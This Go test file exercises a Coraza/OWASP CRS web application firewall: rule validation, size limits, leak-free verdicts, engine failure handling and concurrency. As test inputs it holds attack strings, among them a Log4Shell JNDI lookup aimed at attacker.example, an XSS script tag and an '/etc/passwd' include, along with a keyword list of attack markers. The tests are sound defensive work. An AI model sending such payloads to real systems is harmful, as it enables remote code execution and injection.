package waf

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/types"
)

// generatedText is what the product generates. A test in TypeScript compares it with the generator.
func generatedText(t testing.TB) string {
	t.Helper()
	text, err := os.ReadFile("testdata/directives.conf")
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// generated compiles the directives that the product generates.
func generated(t testing.TB) *Firewall {
	t.Helper()
	firewall, err := New(generatedText(t))
	if err != nil {
		t.Fatal(err)
	}
	return firewall
}

var script = request("GET", "/v1/tasks", "q=<script>alert(1)</script>")

func TestNewRefusesRulesThatStopNothing(t *testing.T) {
	text := generatedText(t)
	for name, directives := range map[string]string{
		"no directives":         "",
		"no rules":              "SecRuleEngine On",
		"no rule set":           strings.Replace(text, "Include @owasp_crs/REQUEST-*.conf\n", "", 1),
		"only rules of our own": "SecRuleEngine On\nSecAction \"id:1,phase:1,deny,status:403\"\n",
		"an unknown file":       text + "Include @owasp_crs/REQUEST-000.conf\n",
		"an unknown directive":  text + "SecRuleEngines On\n",
		"a broken expression":   text + `SecRule ARGS "@rx (" "id:20001,phase:1,pass"` + "\n",
		"a rule twice":          text + `SecAction "id:10001,phase:1,pass"` + "\n",
		"rules without setup":   strings.Replace(text, "tx.crs_setup_version=4250", "tx.crs_setup_version=", 1) + "SecRuleEngine Off\n",
		"rules switched off":    text + "SecRuleEngine Off\n",
		"rules that only count": text + "SecRuleEngine DetectionOnly\n",
		"another file system":   text + "Include /etc/passwd\n",
		"words":                 "This is no SecLang.",
	} {
		if firewall, err := New(directives); err == nil {
			t.Errorf("%s: a firewall without an error (%v); expected an error", name, firewall)
		}
	}
}

// TestBodiesStayAwayFromTheEngine bounds the cost: the rules take 4 ms of CPU time for a KB of a body.
func TestBodiesStayAwayFromTheEngine(t *testing.T) {
	firewall := generated(t)
	seen := -1
	firewall.observe = func(body []byte) { seen = len(body) }
	inspect := func(one Request) (int, Verdict) {
		seen = 0
		verdict, err := firewall.Inspect(one)
		if err != nil {
			t.Fatal(err)
		}
		return seen, verdict
	}
	for _, one := range honestRequests() {
		// The directives keep these bodies away, too, without the mark of the caller.
		unmarked := one.request
		unmarked.Callback = false
		for _, either := range []Request{one.request, unmarked} {
			bytes, _ := inspect(either)
			limit := 16_384
			if isCallbackPath(either.Path) || either.Path == "/v1/tasks" || strings.HasSuffix(either.Path, "/reopen") && !strings.Contains(either.Path, "operator") {
				limit = 0
			}
			if bytes > limit {
				t.Errorf("%s: the engine has %d bytes of the body; expected at most %d", one.name, bytes, limit)
			}
		}
	}
	megabyte := bytes.Repeat([]byte("select ${ "), 1<<20/10)
	for _, method := range []string{"PUT", "PATCH", "DELETE", "OPTIONS"} {
		one := withBody(request(method, "/v1/operator/keys/a/retire", ""), "application/json", megabyte)
		if bytes, verdict := inspect(one); bytes != 0 || verdict.Blocked {
			t.Errorf("%s: %d bytes, %+v; expected that the function answers 405", method, bytes, verdict)
		}
	}
	marked := operatorWith(`{"reason":"${jndi:ldap://attacker.example/a}"}`)
	marked.Callback = true
	if bytes, _ := inspect(marked); bytes != 0 {
		t.Errorf("the engine has %d bytes of the body of a callback; expected none", bytes)
	}
	fits := operatorWith(strings.Repeat("a", 16_384))
	if bytes, verdict := inspect(fits); bytes != 16_384 || verdict.Blocked {
		t.Errorf("a body of 16384 bytes: %d bytes, %+v; expected that the engine has it and lets it pass", bytes, verdict)
	}
	if _, verdict := inspect(operatorWith(strings.Repeat("a", 16_385))); !verdict.Blocked || verdict.Status != 413 {
		t.Errorf("a body of 16385 bytes: %+v; expected 413", verdict)
	}
}

func TestLimitsOfPathsAndQueries(t *testing.T) {
	firewall := generated(t)
	callback := "/c/" + taskID
	for name, one := range map[string]struct {
		request Request
		status  int
	}{
		"a path of 512 bytes":                 {request("GET", "/problems/"+strings.Repeat("a", 502), ""), 0},
		"a path of 513 bytes":                 {request("GET", "/problems/"+strings.Repeat("a", 503), ""), 414},
		"a path of a callback of 3 KB":        {request("POST", "/v1/results/"+taskID+"/"+strings.Repeat("a", 3_000), ""), 0},
		"a query of a callback of 4096 bytes": {request("POST", callback, strings.Repeat("a", 4_096)), 0},
		"a query of a callback of 4097 bytes": {request("POST", callback, strings.Repeat("a", 4_097)), 414},
		"a token in a query":                  {request("POST", callback, "access_token="+strings.Repeat("a", 2_048)), 0},
		"101 parameters of a callback":        {request("POST", callback, strings.Repeat("a=1&", 100)+"a=1"), 0},
		"an open query of 512 bytes":          {request("GET", "/healthz", strings.Repeat("a", 512)), 0},
		"an open query of 513 bytes":          {request("GET", "/healthz", strings.Repeat("a", 513)), 414},
		"a query of a list of 4096 bytes":     {request("GET", "/v1/tasks", "resource="+strings.Repeat("a", 4_087)), 0},
		"a query of a list of 4097 bytes":     {request("GET", "/v1/tasks", "resource="+strings.Repeat("a", 4_088)), 414},
		"100 parameters":                      {request("GET", "/v1/tasks", strings.Repeat("a=1&", 99)+"a=1"), 0},
		"101 parameters":                      {request("GET", "/v1/tasks", strings.Repeat("a=1&", 100)+"a=1"), 400},
		"a token that cannot be decoded":      {request("POST", "/v1/results/"+taskID+"/%zz", ""), 0},
		"another path that cannot be decoded": {request("GET", "/v1/tasks/%zz", ""), 400},
		"a path without a route":              {request("GET", "/v3", ""), 404},
	} {
		verdict, err := firewall.Inspect(one.request)
		if err != nil || verdict.Status != one.status || verdict.Blocked != (one.status != 0) {
			t.Errorf("%s: %+v, %v; expected status %d", name, verdict, err, one.status)
		}
	}
}

// TestVerdictsNameNoData looks for each text of the attacks in the verdicts, and for output of the engine.
func TestVerdictsNameNoData(t *testing.T) {
	output, err := os.Create(filepath.Join(t.TempDir(), "output"))
	if err != nil {
		t.Fatal(err)
	}
	stdout, stderr := os.Stdout, os.Stderr
	os.Stdout, os.Stderr = output, output
	firewall := generated(t)
	verdicts := map[string]string{}
	for name, one := range attacks() {
		verdict, err := firewall.Inspect(one)
		verdicts[name] = fmt.Sprintf("%+v %v", verdict, err)
	}
	os.Stdout, os.Stderr = stdout, stderr
	if text, err := os.ReadFile(output.Name()); err != nil || len(text) > 0 {
		t.Errorf("the engine wrote %q (%v); expected nothing", text, err)
	}
	for name, verdict := range verdicts {
		for _, text := range []string{"script", "jndi", "passwd", "eyJ", "attacker", "SELECT", "isAdmin", "x-api", "user-agent"} {
			if strings.Contains(strings.ToLower(verdict), strings.ToLower(text)) {
				t.Errorf("%s: %s; expected no text of the request", name, verdict)
			}
		}
	}
	verdict, err := firewall.Inspect(script)
	want := Verdict{Blocked: true, Status: 403, RuleID: 941100, Severity: "critical", Variable: "ARGS"}
	if err != nil || verdict != want {
		t.Errorf("%+v, %v; expected %+v", verdict, err, want)
	}
	// An address as host is a warning, of a rule that runs before.
	warned := script
	warned.Host = "203.0.113.7"
	if verdict, err = firewall.Inspect(warned); err != nil || verdict != want {
		t.Errorf("with a warning: %+v, %v; expected %+v", verdict, err, want)
	}
}

// TestNoTemporaryDirectory shows that a disk that cannot be written does not open the firewall.
func TestNoTemporaryDirectory(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	missing := filepath.Join(t.TempDir(), "missing")
	text := generatedText(t)
	started := generated(t)
	for _, directory := range []string{missing, file} {
		t.Setenv("TMPDIR", directory)
		firewalls := []*Firewall{started}
		// Without the tag no_fs_access, Coraza looks for the directory and refuses to start.
		if firewall, err := New(text); err == nil {
			firewalls = append(firewalls, firewall)
		}
		for _, firewall := range firewalls {
			for name, one := range attacks() {
				if verdict, err := firewall.Inspect(one); err == nil && !verdict.Blocked {
					t.Errorf("TMPDIR=%s: %s passes", directory, name)
				}
			}
			for i, one := range honestRequests() {
				if i%10 != 0 {
					continue
				}
				if verdict, err := firewall.Inspect(one.request); err != nil || verdict.Blocked {
					t.Errorf("TMPDIR=%s: %s: %+v, %v", directory, one.name, verdict, err)
				}
			}
		}
	}
}

// failingEngine is a stand-in of an engine whose transactions fail in one step.
type failingEngine struct {
	coraza.WAF
	fail func(types.Transaction) types.Transaction
}

func (engine failingEngine) NewTransaction() types.Transaction {
	return engine.fail(engine.WAF.NewTransaction())
}

type panickingTransaction struct{ types.Transaction }

func (panickingTransaction) ProcessRequestHeaders() *types.Interruption { panic("eyJ, a token") }

type failingTransaction struct{ types.Transaction }

func (failingTransaction) ProcessRequestBody() (*types.Interruption, error) {
	return nil, errors.New("no space left on device")
}

type fullTransaction struct{ types.Transaction }

func (fullTransaction) WriteRequestBody([]byte) (*types.Interruption, int, error) {
	return nil, 0, errors.New("no space left on device")
}

type unclosedTransaction struct{ types.Transaction }

func (unclosedTransaction) Close() error { return errors.New("no such file") }

type switchedOffTransaction struct{ types.Transaction }

func (switchedOffTransaction) IsRuleEngineOff() bool { return true }

func TestFailuresOfTheEngineAreErrors(t *testing.T) {
	firewall := generated(t)
	for name, fail := range map[string]func(types.Transaction) types.Transaction{
		"a panic":            func(one types.Transaction) types.Transaction { return panickingTransaction{one} },
		"a phase that fails": func(one types.Transaction) types.Transaction { return failingTransaction{one} },
		"a full disk":        func(one types.Transaction) types.Transaction { return fullTransaction{one} },
		"an unclosed file":   func(one types.Transaction) types.Transaction { return unclosedTransaction{one} },
		"rules switched off": func(one types.Transaction) types.Transaction { return switchedOffTransaction{one} },
	} {
		failing := &Firewall{engine: failingEngine{firewall.engine, fail}}
		verdict, err := failing.Inspect(operatorWith(`{"reason":"again"}`))
		if err == nil || verdict != (Verdict{}) {
			t.Errorf("%s: %+v without an error; expected an error", name, verdict)
		} else if strings.Contains(err.Error(), "eyJ") {
			t.Errorf("%s: the error %q has text of the request", name, err)
		}
	}
	if verdict, err := firewall.Inspect(script); err != nil || !verdict.Blocked {
		t.Errorf("after the failures: %+v, %v; expected that an attack is blocked", verdict, err)
	}
}

func TestRequestsAtATimeDoNotMix(t *testing.T) {
	firewall := generated(t)
	honest, bad := honestRequests(), attacks()
	var all []Request
	for _, one := range bad {
		all = append(all, one)
	}
	for i := range all {
		all = append(all, honest[i*len(honest)/len(bad)].request)
	}
	var group sync.WaitGroup
	for worker := range 2 * runtime.GOMAXPROCS(0) {
		group.Go(func() {
			for i := range all {
				at := (i + worker*7) % len(all)
				verdict, err := firewall.Inspect(all[at])
				if err != nil || verdict.Blocked != (at < len(bad)) {
					t.Errorf("request %d: %+v, %v; expected the decision that it has alone", at, verdict, err)
				}
			}
		})
	}
	group.Wait()
}
